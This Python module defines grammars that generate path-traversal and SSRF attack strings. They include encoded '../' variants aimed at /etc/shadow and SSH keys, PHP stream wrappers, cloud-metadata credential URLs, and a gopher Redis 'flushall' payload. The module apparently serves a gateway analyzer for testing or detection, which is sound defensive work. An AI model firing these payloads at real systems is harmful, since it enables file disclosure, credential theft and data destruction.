"""Attacks on what opens a place that is named: files by their paths, and addresses inside.

Paths are spelt in all the ways that some decoder somewhere undoes; RFC 3986 and RFC 3629 say which are wrong.
"""

from __future__ import annotations

from typing import Final

from gateway.analyst.text.grammar import Grammar

PATHS: Final = Grammar(
    {
        "start": """
«up»«target»
«up»«target»
/«up»«target»
«word»/«up»«target»
«word».«extension»/«up»«target»
«absolute»
file://«absolute»
file:///«up»«target»
«wrapper»
C:\\«windows»
c:/«windows»
«up»«windows»
\\\\«address»\\«word»\\«word»
/«word»/..;/«word»/«word»
/.git/config
/.env
«up».env
/WEB-INF/web.xml
«up»WEB-INF/web.xml
/proc/self/«proc»
«up»proc/self/«proc»
""",
        "up": "«step»«step»\n«step»«step»«step»\n«step»«step»«step»«step»«step»\n«step»«step»«step»«step»«step»«step»«step»«step»\n«step»",
        "step": "../\n../\n../\n..\\\n....//\n..%2f\n..%5c\n%2e%2e/\n%2e%2e%2f\n..%252f\n..%c0%af\n.../\n..././\n/../\n..//\n..;/\n..2f\n..5c\n..0x2f\n..0x5c\n0x2e0x2e0x2f\n..%u2215\n..%u2216\n..%c1%9c\n%c0%ae%c0%ae/\n..\\/",
        "target": "etc/passwd\netc/passwd\netc/shadow\netc/hosts\netc/«word».conf\nproc/self/environ\nvar/log/«word»/access.log\nboot.ini\nwindows/win.ini\nroot/.ssh/id_rsa\nhome/«word»/.ssh/authorized_keys\nvar/www/html/«word».php\nconfig/database.yml\nsecrets/«word».key\n«word»/«word»\n«word».«extension»",
        "absolute": "/etc/passwd\n/etc/shadow\n/etc/group\n/etc/issue\n/proc/self/environ\n/proc/self/cmdline\n/var/log/auth.log\n/root/.bashrc\n/etc/ssh/sshd_config\n/etc/nginx/nginx.conf\n/etc/«word»/«word».conf\n/etc/«word».conf\n/var/log/«word».log\n/var/log/«word»/error_log\n/var/www/«word»/«word».ini\n/usr/local/«word»/conf/«word».ini\n/usr/local/etc/«word»/«word».conf\n/opt/«word»/logs/access_log\n/private/etc/«word»/«word».conf\n/proc/self/fd/«small»\n/root/.«word»/«word»",
        "windows": "windows\\win.ini\nwindows\\system32\\drivers\\etc\\hosts\nboot.ini\nwindows\\system32\\cmd.exe\nwindows/system.ini\ninetpub\\logs\\«word»\nwinnt\\win.ini\nwindows/«word»/«word».txt\nwindows\\repair\\«word»\nprogram files/«word»/«word».ini",
        "wrapper": "php://filter/convert.base64-encode/resource=«word».php\nphp://input\nphp://filter/read=string.rot13/resource=«word»\nexpect://«word»\nzip://«word».zip#«word»\nphar://«word».phar/«word»\ndata://text/plain;base64,«token»\njar:file:///«word».jar!/\nhttp://«domain»/«word».txt?\nhttps://«domain»/shell.php",
        "extension": "php\njpg\nini\nconf\nlog\nxml\nyml\ntxt\nbak\nsql",
        "proc": "environ\ncmdline\nmaps\nfd/«small»\nstatus",
    }
)
ADDRESSES: Final = Grammar(
    {
        "start": """
«scheme»«inside»«rest»
http://«inside»«rest»
http://«inside»«rest»
https://«inside»«rest»
http://«meta»
http://«domain»@«inside»/
http://«inside»#@«domain»/
http://«inside»%23.«domain»/
//«inside»/«word»
gopher://«inside»:«port»/_«hexes»
gopher://«address»:«port»/_%2a1%0d%0a$8%0d%0aflushall
dict://«inside»:«port»/info
file:///etc/passwd
file:///«word»/«word»
ldap://«inside»:«port»/%0astats
sftp://«domain»:«port»/
tftp://«domain»:«port»/«word»
netdoc:///etc/passwd
jar:http://«domain»/«word».jar!/
http://«inside»:«port»/admin/«word»
""",
        "scheme": "http://\nhttps://\nftp://\ngopher://\ndict://\nldap://",
        "inside": "127.0.0.1\nlocalhost\n0.0.0.0\n127.1\n0177.0.0.1\n0x7f000001\n2130706433\n[::1]\n[::ffff:127.0.0.1]\n10.«small».«small».«small»\n192.168.«small».«small»\n172.16.«small».«small»\n169.254.169.254\n127.0.0.1.nip.io\nlocalhost.«domain»\n0\n127.0.0.«small»\n[0:0:0:0:0:ffff:127.0.0.1]\nmetadata",
        "meta": "169.254.169.254/latest/meta-data/\n169.254.169.254/latest/meta-data/iam/security-credentials/«word»\n169.254.169.254/latest/user-data\nmetadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\n169.254.169.254/metadata/instance?api-version=2021-02-01\n100.100.100.200/latest/meta-data/\n169.254.170.2/v2/credentials\n[fd00:ec2::254]/latest/meta-data/\nkubernetes.default.svc/api/v1/secrets",
        "rest": "«empty»\n/\n:«port»\n:«port»/\n/admin\n:«port»/«word»\n/server-status\n:«port»/_cat/indices\n/latest/meta-data/",
        "port": "22\n25\n80\n443\n3306\n5432\n6379\n8080\n9200\n11211\n27017\n2375\n8500",
    }
)
